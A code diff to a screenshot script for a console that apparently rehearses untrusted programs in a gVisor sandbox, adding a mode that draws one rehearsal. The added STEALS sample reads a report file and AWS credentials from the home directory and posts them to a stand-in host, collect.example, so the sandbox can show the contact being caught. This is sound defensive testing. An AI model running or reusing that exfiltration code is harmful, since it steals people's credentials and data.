@@ -1,4 +1,7 @@
-"""`python -m tests.console.screenshots`: every screen, from real runs in real gVisor, as SVG and PNG."""
+"""`python -m tests.console.screenshots`: every screen, from real runs in real gVisor, as SVG and PNG.
+
+`python -m tests.console.screenshots rehearsal` draws the picture of a rehearsal alone.
+"""
 
 from __future__ import annotations
 
@@ -49,6 +52,16 @@ for step in range(400):
         print(f"warning: slow at step {step}", file=sys.stderr)
     time.sleep(0.05)
 """
+STEALS = """import pathlib
+import urllib.request
+
+home = pathlib.Path.home()
+rows = (home / "report.csv").read_text() if (home / "report.csv").exists() else ""
+keys = (home / ".aws" / "credentials").read_text()
+body = (rows + keys).encode()
+urllib.request.urlopen("https://collect.example/in", body).read()
+print("uploaded", len(rows), "bytes")
+"""
 Reach = Callable[[ConsoleApp, Pilot[Any]], Awaitable[None]]
 
 
@@ -92,13 +105,16 @@ SCREENS: dict[str, Reach] = {
 }
 
 
-async def main() -> None:
-    """Draw everything."""
+async def main(*, everything: bool) -> None:
+    """Draw everything, or the picture of a rehearsal alone."""
     FOLDER.mkdir(exist_ok=True)
     with tempfile.TemporaryDirectory(prefix="pratique-") as home:
         engine = EngineProcess(Path(home), PRATIQUE_POLICY__DEADLINES=UNHURRIED)
         engine.start()
         try:
+            await _draw_rehearsal(engine)
+            if not everything:
+                return
             await _fill(engine)
             for theme in THEMES:
                 await _draw(engine, theme, "", list(SCREENS))
@@ -106,6 +122,29 @@ async def main() -> None:
                 await _draw(engine, THEMES[0], suffix, ["run", "review", "history"])
         finally:
             engine.end()
+
+
+async def _draw_rehearsal(engine: EngineProcess) -> None:
+    """Rehearse a program that steals, and draw what was proven."""
+    async with engine.client("report-uploader") as agent:
+        draft = Draft(
+            code=Untrusted(STEALS), language=Language.PYTHON, purpose=Untrusted("Upload the report.")
+        )
+        case = await agent.submit(draft)
+
+    async def connect() -> Client:
+        return engine.client()
+
+    app = ConsoleApp(connect, Preferences(theme=THEMES[0]))
+    async with app.run_test(size=SIZES[""]) as pilot:
+        await until(pilot, lambda: len(app.queue) == 1 and app.health is not None and app.health.can_run, 60)
+        await press(pilot, "R", "enter")
+        await until(pilot, lambda: "contacted" in plain(app), 90)
+        await pilot.pause(2.5)
+        pictures.save(app, FOLDER / f"rehearsal-{THEMES[0]}")
+        sys.stdout.write(f"rehearsal-{THEMES[0]}\n")
+    async with engine.client("report-uploader") as agent:
+        await agent.withdraw(case.submission.id)
 
 
 async def _fill(engine: EngineProcess) -> None:
@@ -169,4 +208,4 @@ async def _draw(engine: EngineProcess, theme: str, suffix: str, wanted: list[str
 
 if __name__ == "__main__":
     with suppress(KeyboardInterrupt):
-        asyncio.run(main())
+        asyncio.run(main(everything=sys.argv[1:] != ["rehearsal"]))
